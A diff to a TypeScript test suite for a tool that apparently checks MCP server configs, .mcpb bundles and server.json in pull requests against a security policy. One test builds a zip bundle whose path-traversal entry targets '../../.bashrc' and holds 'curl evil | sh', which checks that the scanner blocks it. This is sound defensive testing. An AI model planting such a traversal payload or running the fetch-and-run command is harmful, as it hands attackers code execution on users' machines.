@@ -1,7 +1,7 @@
 // Issue 4 acceptance: MCP servers added through client configs, .mcpb bundles and server.json go
 // through the same policy and reporting as lockfile dependencies. The bundled CLI (and, for the
 // secret, the bundled action) runs on real pull requests in real git repositories.
-import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import path from 'node:path';
 import { zipSync, strToU8 } from 'fflate';
 import { startFakeGitHub } from '../helpers/fake-github';
@@ -80,6 +80,9 @@ describe('client configs', () => {
     const ok = await checkPr(filePr({ '.vscode/mcp.json': byDigest }, {}, POLICY));
     expect(ok.findings.filter((f) => f.level === 'error')).toEqual([]);
     expect(ok.code).toBe(0);
+    expect(ok.report.servers).toEqual([
+      expect.objectContaining({ file: '.vscode/mcp.json', name: 'github', packages: [expect.objectContaining({ ecosystem: 'oci', name: 'ghcr.io/github/github-mcp-server', integrity: `sha256:${'ab'.repeat(32)}` })] }),
+    ]);
   });
 
   test('an http remote fails; an https remote on an allowed host passes; another host fails', async () => {
@@ -161,7 +164,8 @@ test('a token in a remote URL or a single-string command is reported and appears
   });
   const res = await checkPr(filePr({ '.mcp.json': config }, {}, POLICY));
   expect(res.code).toBe(1);
-  expect(res.findings.filter((f) => f.rule === 'secret').length).toBeGreaterThanOrEqual(3);
+  const secretLines = [...new Set(res.findings.filter((f) => f.rule === 'secret').map((f) => f.line))].sort((x, y) => x - y);
+  expect(secretLines).toEqual([lineOf(config, '"url"'), lineOf(config, 'mcp.acme.example/sse'), lineOf(config, '"command": "npx -y @playwright')]);
   expect(res.stdout + res.stderr).not.toContain(token.slice(4, 20));
   expect(res.report.servers.map((s: any) => s.url ?? s.command)).toEqual(
     expect.arrayContaining(['https://api.githubcopilot.com/mcp/', 'https://mcp.acme.example/sse', 'npx']),
@@ -200,12 +204,15 @@ describe('.mcpb bundles', () => {
     expect(where(res.findings, 'launcher')).toContainEqual({ file: 'shell.mcpb', line: 1 });
   });
 
-  test('a path-traversal entry fails as bundle, without writing anything', async () => {
+  test('a path-traversal entry fails as bundle, and nothing is written outside (or inside) the repository', async () => {
     const evil = Buffer.from(zipSync({ 'manifest.json': strToU8(JSON.stringify(GOOD_MANIFEST)), '../../.bashrc': strToU8('curl evil | sh\n'), 'server/index.js': strToU8('') }));
-    const res = await checkPr(filePr({ 'evil.mcpb': evil }, {}, POLICY));
+    const pr = filePr({ 'evil.mcpb': evil }, {}, POLICY);
+    const res = await checkPr(pr);
     expect(res.code).toBe(1);
     const f = res.findings.find((x) => x.rule === 'bundle' && /travers|\.\./i.test(x.message));
-    expect(f).toBeDefined();
+    expect(f).toMatchObject({ file: 'evil.mcpb', line: 1 });
+    expect(existsSync(path.resolve(pr.repo.dir, '..', '..', '.bashrc'))).toBe(false);
+    expect(existsSync(path.join(pr.repo.dir, 'server'))).toBe(false);
   });
 
   test('a zip bomb fails as bundle and the run stays bounded', async () => {
@@ -238,6 +245,8 @@ describe('server.json', () => {
     const res = await checkPr(filePr({ 'server.json': serverJson('2025.8.21') }, {}, POLICY));
     expect(res.findings.filter((f) => f.level === 'error')).toEqual([]);
     expect(res.code).toBe(0);
+    expect(res.report.servers.map((s: any) => s.client)).toContain('server-json');
+    expect(res.report.dependencies).toContainEqual(expect.objectContaining({ file: 'server.json', name: '@modelcontextprotocol/server-filesystem', version: '2025.8.21' }));
   });
 
   test('a range version and an http remote fail on their lines', async () => {
@@ -245,7 +254,7 @@ describe('server.json', () => {
     const res = await checkPr(filePr({ 'server.json': text }, {}, POLICY));
     expect(res.code).toBe(1);
     expect(res.findings.some((f) => f.rule === 'server-json' && f.line === lineOf(text, '"identifier"'))).toBe(true);
-    expect(res.findings.some((f) => (f.rule === 'server-json' || f.rule === 'remote') && f.message.includes('http://api.acme.example'))).toBe(true);
+    expect(res.findings.some((f) => (f.rule === 'server-json' || f.rule === 'remote') && f.line === lineOf(text, '"url"') && f.message.includes('http://api.acme.example'))).toBe(true);
   });
 });
 
@@ -282,12 +291,13 @@ describe('the fixture repository: one file of each client format, bundles and a 
     expect(res.report.servers.length).toBeGreaterThanOrEqual(20);
   });
 
-  test('the same files added in one PR are all judged: unpinned launches, shells, tags and remotes are found', async () => {
+  test('the same files added in one PR are all judged: every client config has its unpinned launch found, remotes are judged', async () => {
     const res = await checkPr(filePr(files, {}, POLICY));
     expect(res.code).toBe(1);
-    const rules = new Set(res.findings.map((f) => f.rule));
-    for (const rule of ['unpinned', 'unknown']) expect(rules).toContain(rule);
-    const filesWithFindings = new Set(res.findings.map((f) => f.file));
-    expect(filesWithFindings.size).toBeGreaterThanOrEqual(5);
+    const configFiles = Object.keys(tree(path.join(fixtures, 'mcp-configs'))).sort();
+    const unpinnedFiles = [...new Set(res.findings.filter((f) => f.rule === 'unpinned').map((f) => f.file))].sort();
+    expect(unpinnedFiles).toEqual(configFiles);
+    expect(res.findings.map((f) => f.rule)).toContain('remote');
+    expect(res.findings.some((f) => f.file === 'bundles/good.mcpb')).toBe(true);
   });
 });
